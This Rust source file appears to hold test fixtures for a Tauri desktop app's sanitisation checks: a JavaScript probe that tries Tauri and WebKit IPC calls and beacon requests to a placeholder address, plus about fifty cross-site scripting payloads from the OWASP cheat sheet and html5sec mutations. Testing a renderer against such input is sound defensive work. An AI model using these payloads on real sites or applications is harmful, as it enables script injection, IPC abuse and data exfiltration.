//! Payloads after the kinds of the OWASP cheat sheet on cross-site scripting and of known mutations
//! (html5sec). `BEACON` stands for an address that nobody may ask, `RUN` for a script that tries
//! everything a script could do to the window.

/// Tries each way out of a page: the window's own commands, its parents, the network, the title.
pub(crate) const RUN: &str = "(function(){var w=[window,window.parent,window.top];\
for(var i=0;i<w.length;i++){try{w[i].ran=1;w[i].document.title='RAN'}catch(e){}\
try{w[i].__TAURI_INTERNALS__.invoke('new_case',{name:'RAN'})}catch(e){}\
try{w[i].webkit.messageHandlers.ipc.postMessage('{}')}catch(e){}}\
try{fetch('ipc://localhost/new_case',{method:'POST',body:'{}'})}catch(e){}\
try{fetch('BEACON')}catch(e){}try{new Image().src='BEACON'}catch(e){}\
try{alert('RAN')}catch(e){}\
try{navigator.sendBeacon('BEACON')}catch(e){}try{location='BEACON'}catch(e){}})()";

/// Markup that runs `RUN` or asks `BEACON` where it is taken for markup.
pub(crate) const PAYLOADS: &[&str] = &[
    "<script>RUN</script>",
    "<SCRIPT SRC='BEACON'></SCRIPT>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script type=module>RUN</script>",
    "<script>RUN",
    "<img src=x onerror=\"RUN\">",
    "<img src='BEACON'>",
    "<img srcset='BEACON 2x'>",
    "<img src=x onerror=RUN//",
    "<svg onload=\"RUN\">",
    "<svg><script>RUN</script></svg>",
    "<svg><use href='BEACON#a'></use></svg>",
    "<svg><a xlink:href=\"javascript:RUN\"><text y=20>words</text></a></svg>",
    "<svg><animate onbegin=\"RUN\" attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc=\"<script>RUN</script>\"></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"RUN\"></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>RUN</script></annotation-xml></math>",
    "<iframe srcdoc=\"<script>RUN</script>\"></iframe>",
    "<iframe src='BEACON'></iframe>",
    "<iframe src=\"javascript:RUN\"></iframe>",
    "<iframe srcdoc=\"<iframe srcdoc='&lt;script&gt;RUN&lt;/script&gt;'></iframe>\"></iframe>",
    "<a href=\"javascript:RUN\" autofocus onfocus=\"RUN\">words</a>",
    "<a href='x' ping='BEACON'>words</a>",
    "<a href=\" &#14; javascript:RUN\">words</a>",
    "<body onload=\"RUN\">",
    "<body background='BEACON'>",
    "<input autofocus onfocus=\"RUN\">",
    "<select autofocus onfocus=\"RUN\"><option>1</select>",
    "<details open ontoggle=\"RUN\"><summary>words</summary></details>",
    "<video autoplay onloadstart=\"RUN\"><source src='BEACON' onerror=\"RUN\"></video>",
    "<audio src='BEACON' autoplay onerror=\"RUN\"></audio>",
    "<marquee onstart=\"RUN\">words</marquee>",
    "<object data='BEACON'></object>",
    "<object data=\"data:text/html,<script>RUN</script>\"></object>",
    "<embed src='BEACON'>",
    "<link rel=stylesheet href='BEACON'>",
    "<link rel=dns-prefetch href='BEACON'><link rel=preload as=image href='BEACON'>",
    "<meta http-equiv=refresh content='0;url=BEACON'>",
    "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
    "<base href='BEACON'>",
    "<style>@import 'BEACON';body{background:url(BEACON)}</style>",
    "<p style=\"background:url(BEACON)\">words</p>",
    "<form action='BEACON'><button autofocus onfocus=\"RUN\">words</button></form>",
    "<form><button formaction=\"javascript:RUN\">words</button></form>",
    "<template><script>RUN</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror='RUN'>\">words</noscript>",
    "<!--><script>RUN</script>-->",
    "<![CDATA[><script>RUN</script>]]>",
    "</title></textarea></style><script>RUN</script>",
    "<textarea></textarea><img src=x onerror=\"RUN\"></textarea>",
    "<p title='\"><img src=x onerror=\"RUN\">'>words</p>",
    "&lt;img src=x onerror=RUN&gt;<img src=x onerror=\"RUN\">",
    "<img src=x:x onerror=\"RUN\" style='position:fixed;inset:0'>",
    "{@html '<img src=x onerror=RUN>'}{constructor.constructor('RUN')()}",
];
